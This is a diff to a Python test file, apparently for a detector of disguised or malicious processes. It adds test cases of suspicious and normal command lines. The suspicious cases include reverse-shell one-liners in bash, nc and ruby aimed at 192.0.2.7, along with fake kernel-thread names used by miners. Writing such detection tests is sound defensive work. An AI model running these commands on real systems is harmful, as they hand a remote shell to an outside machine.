@@ -18,6 +18,20 @@ def disguise(words: str, comm: str, link: str) -> str:
 
 
 DISGUISES = [
+    ("init", "init", "/var/www/nextjs/ttttt", "calls itself init, is ttttt"),
+    (
+        "bash -c bash -i >& /dev/tcp/192.0.2.7/9090 0>&1",
+        "bash",
+        "/usr/bin/bash",
+        "gives a shell to another machine",
+    ),
+    ("nc -e /bin/sh 192.0.2.7 4444", "nc", "/usr/bin/nc", "gives a shell to another machine"),
+    (
+        "ruby -rsocket -e c=TCPSocket.new('x',1);IO.popen(c.gets)",
+        "ruby",
+        "/usr/bin/ruby",
+        "gives a shell to another machine",
+    ),
     ("./kauditd0", "kauditd0", "/tmp/kauditd0", "calls itself a kernel thread, and is none"),
     ("kswapd0", "kswapd0", "/usr/bin/kswapd0", "calls itself a kernel thread, and is none"),
     ("[kworker/0:2]", "xmr", "/usr/bin/xmr", "calls itself a kernel thread, and is none"),
@@ -50,6 +64,10 @@ def test_disguises(words: str, comm: str, link: str, said: str) -> None:
 
 
 NORMAL = [
+    ("/sbin/init splash", "init", "/usr/lib/systemd/systemd"),
+    ("init", "init", "/usr/bin/catatonit"),
+    ("bash -c echo > /dev/tcp/db/5432", "bash", "/usr/bin/bash"),
+    ("nc -l -p 9000", "nc", "/usr/bin/nc.openbsd"),
     ("/usr/bin/rsync -a x y", "rsync", "/usr/bin/rsync"),
     ("-bash", "bash", "/usr/bin/bash"),
     ("-sh", "sh", "/usr/bin/dash"),
